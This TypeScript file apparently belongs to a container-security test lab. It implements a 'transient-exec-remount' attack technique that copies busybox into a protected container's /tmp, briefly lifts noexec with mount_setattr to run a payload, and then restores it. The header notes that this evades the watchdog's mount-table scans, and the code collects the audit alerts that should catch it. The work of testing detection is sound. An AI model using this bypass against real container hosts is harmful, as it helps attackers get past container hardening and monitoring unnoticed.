/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1059.004
 * Unix Shell, T1036.005 Masquerading): a shell copied out of the image
 * into a protected container's `/tmp` runs there, during the moment root on
 * the node takes the start gate's `noexec` off that mount with
 * mount_setattr(2) (not mount(2)), and `noexec` is back when it ends. No
 * mount is added or removed, and the mount table differs from the expected
 * one only while the shell runs, a fraction of the watchdog's full-scan
 * period (a remount raises no mount event).
 *
 * The copy is made inside the container with `mkdir -p` and `cp` (no
 * shell). As in
 * memfd-exec, a shell on the node joins the container's cgroups, then
 * native/transient-exec-mount.c enters the container's namespaces, clears
 * MOUNT_ATTR_NOEXEC on `/tmp`, runs the copy (`sh -c <payload>`: busybox
 * runs the applet its name says) and sets MOUNT_ATTR_NOEXEC again.
 *
 * What must catch it: the audit layer, whose lab-wide mount rule records
 * mount_setattr with mount and move_mount, and whose "Mount on a container's
 * root file system" rule reports it in the container.
 */
import { awaitAuditAlerts } from '../../audit/index.ts';
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import { harnessExec, requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import type { HarnessCommand } from '../outcome.ts';
import { containerTool } from './memfd-exec.ts';


export const transientExecRemount: Technique = {
  name: 'transient-exec-remount',
  async run(ctx) {
    const { node, attack } = ctx;
    const path = requirePath(attack);
    const payload = requirePayload(attack);
    const mountPoint = path.slice(0, path.lastIndexOf('/')) || '/';
    const tool = await containerTool(ctx, 'transient-exec-mount');
    const { target, since } = tool;
    // The attacker's copy, made with mkdir and cp alone: no shell is started for it (an image without /tmp gets one in its upperdir).
    await node.cri.execSync(target.containerId, ['mkdir', '-p', mountPoint]);
    const copy = await node.cri.execSync(target.containerId, ['cp', '/bin/busybox', path]);
    if (copy.exitCode !== 0) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `could not copy /bin/busybox to ${path} in ${target.pod.namespace}/${target.pod.name}: ${copy.stderr.toString().trim()}`);
    const { command, r } = await tool.run([mountPoint, path, '-c', payload]);
    const stdout = r.stdout.toString();
    const stderr = r.stderr.toString();
    // Whether noexec is back, read as the container sees its mounts (the harness's own command).
    const harnessCommands: HarnessCommand[] = [];
    const mounts = await harnessExec(node, target.containerId, 'read the mount table as the container sees it', ['cat', '/proc/self/mountinfo'], harnessCommands);
    const line = mounts.stdout.toString().split('\n').find((l) => l.split(' ')[4] === mountPoint);
    const effect = r.exitCode === 0 && stdout.trim() !== '';
    return {
      effect,
      reason: effect
        ? `a shell copied to ${path} ran "${payload}" in ${target.pod.namespace}/${target.pod.name} while ${mountPoint} was exec-able (mount_setattr), exit 0; ${mountPoint} is ${line?.split(' ')[5]?.split(',').includes('noexec') ? 'noexec again' : 'still exec-able'}`
        : `the copied shell at ${path} did not run in ${target.pod.namespace}/${target.pod.name}: exit ${r.exitCode}, ${stderr.trim()}`,
      evidence: { command, exitCode: r.exitCode, stdout, stderr, mountAfter: line ?? null, auditAlerts: await awaitAuditAlerts(node, since) },
      harnessCommands,
    };
  },
};
